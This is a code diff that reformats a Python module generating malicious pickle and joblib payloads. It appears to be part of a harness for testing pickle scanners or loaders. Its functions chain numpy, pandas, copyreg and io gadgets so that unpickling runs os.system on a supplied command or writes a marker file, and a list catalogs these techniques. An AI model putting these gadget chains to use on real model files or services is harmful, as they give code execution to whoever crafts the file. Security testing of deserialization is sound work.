@@ -51,7 +51,9 @@ def _zone_reader(place: Place) -> bytes:
 
 def _random_state(place: Place) -> bytes:
     """Make a generator by a constructor that is a function of the file's choice."""
-    return pickled(call(name("numpy.random._pickle", "__randomstate_ctor"), call(name("os", "system"), place.command)))
+    return pickled(
+        call(name("numpy.random._pickle", "__randomstate_ctor"), call(name("os", "system"), place.command))
+    )
 
 
 def _masked(place: Place) -> bytes:
@@ -67,14 +69,21 @@ def _masked(place: Place) -> bytes:
 def _unpickle_block(place: Place) -> bytes:
     """Hand a call's result to the function that rebuilds a block of a frame."""
     return pickled(
-        call(name("pandas._libs.internals", "_unpickle_block"), call(name("os", "system"), place.command), 1, 2)
+        call(
+            name("pandas._libs.internals", "_unpickle_block"), call(name("os", "system"), place.command), 1, 2
+        )
     )
 
 
 def _reconstructor(place: Place) -> bytes:
     """Hand a call's result to the oldest constructor."""
     return pickled(
-        call(name("copyreg", "_reconstructor"), call(name("os", "system"), place.command), name("builtins", "object"), None)
+        call(
+            name("copyreg", "_reconstructor"),
+            call(name("os", "system"), place.command),
+            name("builtins", "object"),
+            None,
+        )
     )
 
 
@@ -86,19 +95,32 @@ def _newobj_function(place: Place) -> bytes:
 def _newobj_then_init(place: Place) -> bytes:
     """Call a class's initializer by a dotted name."""
     return pickled(
-        call(name("io", "FileIO.__init__"), call(name("copyreg", "__newobj__"), name("io", "FileIO")), place.marker, "w")
+        call(
+            name("io", "FileIO.__init__"),
+            call(name("copyreg", "__newobj__"), name("io", "FileIO")),
+            place.marker,
+            "w",
+        )
     )
 
 
 TECHNIQUES = [
-    Technique("scipy distribution in a search", "gadgets", "one string of a fitted search is changed", _search_by_joblib,
-              loader="joblib", suffix=".joblib"),
+    Technique(
+        "scipy distribution in a search",
+        "gadgets",
+        "one string of a fitted search is changed",
+        _search_by_joblib,
+        loader="joblib",
+        suffix=".joblib",
+    ),
     Technique("scipy distribution", "gadgets", "its __setstate__ runs a text in its state", _distribution),
     Technique("getattr as a time zone asks for it", "gadgets", "for another object", _zone_reader),
     Technique("random state constructor", "gadgets", "around a call", _random_state),
     Technique("masked array", "gadgets", "around a call", _masked),
     Technique("pandas block", "gadgets", "around a call", _unpickle_block, needs=("pandas",)),
     Technique("copyreg reconstructor", "gadgets", "around a call", _reconstructor),
-    Technique("copyreg newobj", "gadgets", "makes, and does not initialize", _newobj_function, executes=False),
+    Technique(
+        "copyreg newobj", "gadgets", "makes, and does not initialize", _newobj_function, executes=False
+    ),
     Technique("initializer by a dotted name", "gadgets", "after the object was made", _newobj_then_init),
-]  # fmt: skip
+]
